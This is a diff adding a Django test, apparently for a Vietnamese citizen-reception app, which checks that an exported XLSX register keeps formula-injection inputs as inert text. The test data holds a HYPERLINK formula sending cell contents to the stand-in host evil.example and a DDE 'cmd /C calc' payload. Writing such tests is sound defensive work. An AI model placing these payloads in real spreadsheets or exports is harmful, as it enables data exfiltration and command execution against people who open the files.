@@ -231,3 +231,38 @@ def test_only_the_head_issues_the_notice_through_the_page(world, day, head_a, as
     download = client.get(f"/reception/sessions/{session.pk}/notice.docx")
     assert download.status_code == 200
     assert assert_decree30_format(download.content) == []
+
+
+def test_the_register_xlsx_keeps_typed_formulas_as_text(world, place_a, head_a, as_persona):
+    session = ReceptionSession.objects.create(
+        organization=world.org_a,
+        place=place_a,
+        kind=ReceptionKind.PERIODIC,
+        held_on=DAY,
+        head=head_a,
+        position="commune_chairman",
+        received_by=head_a,
+        created_by=head_a,
+    )
+    visit_record(
+        actor=head_a,
+        session=session,
+        data=VisitData(
+            kind="feedback",
+            result="guided",
+            content_summary='=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+            complainants=[PersonData("@SUM(1+1)*cmd|' /C calc'!A0", "", "+1+2")],
+            guided_to="-2+3",
+            guidance_reference="12/UBND-TCD",
+        ),
+    )
+    query = f"?organization={world.org_a.pk}&start=2026-11-01&end=2026-11-30"
+    xlsx = as_persona("province_inspector").get(f"/reception/register.xlsx{query}")
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    typed = [cell for row in sheet.iter_rows(min_row=5) for cell in row if isinstance(cell.value, str)]
+    summary = next(cell for cell in typed if "HYPERLINK" in cell.value)
+    assert summary.value == '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    assert summary.data_type == "s"
+    risky = [cell for cell in typed if cell.value[:1] in ("=", "+", "-", "@")]
+    assert len(risky) >= 2
+    assert all(cell.data_type == "s" for cell in risky)
